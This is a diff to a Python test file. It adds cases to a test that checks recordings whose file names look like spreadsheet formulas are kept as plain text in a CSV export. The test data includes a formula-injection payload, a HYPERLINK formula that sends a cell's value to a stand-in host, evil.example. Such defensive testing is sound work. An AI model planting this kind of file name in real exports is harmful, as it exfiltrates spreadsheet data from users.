@@ -406,7 +406,8 @@ def test_files_clock_times_and_dates_are_not_taken_for_labels():
     assert files.label_lookalike is None and clocks.label_lookalike is None
 
 
-@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1,"open").wav', "+1.wav", "-6dB test.wav", "@x.wav"])
+@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1,"open").wav', "+1.wav", "-6dB test.wav", "@x.wav",
+                                  "'=x.wav", "'quoted'.wav"])
 def test_a_recording_named_like_a_formula_is_text_in_the_csv_and_reads_back_whole(
     result: DetectionResult, name: str
 ) -> None:
